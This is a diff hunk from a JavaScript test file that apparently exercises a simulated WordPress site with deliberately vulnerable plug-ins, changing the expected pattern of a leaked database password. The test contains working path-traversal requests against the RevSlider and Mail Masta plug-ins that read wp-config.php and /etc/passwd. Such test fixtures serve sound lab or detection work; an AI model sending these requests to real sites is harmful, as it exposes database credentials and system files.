@@ -254,7 +254,7 @@ describe('plug-ins', () => {
   it('with a hole hand out the configuration with secrets of this install', async () => {
     const p = await blog({ vulnerable: ['revslider', 'mail-masta'] }, new MemoryHosts([['/etc/passwd', 'root:x:0:0::/root:/bin/sh\n']]))
     const config = (await ask(p, 'GET', '/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php')).body
-    expect(config).toMatch(/'DB_PASSWORD', '[\w-]{16}'/)
+    expect(config).toMatch(/'DB_PASSWORD', '[A-Za-z0-9]{14}'/)
     expect((await ask(p, 'GET', '/wp-content/plugins/mail-masta/inc/campaign/count_of_send.php?pl=/etc/passwd')).body).toBe(
       'root:x:0:0::/root:/bin/sh\n',
     )
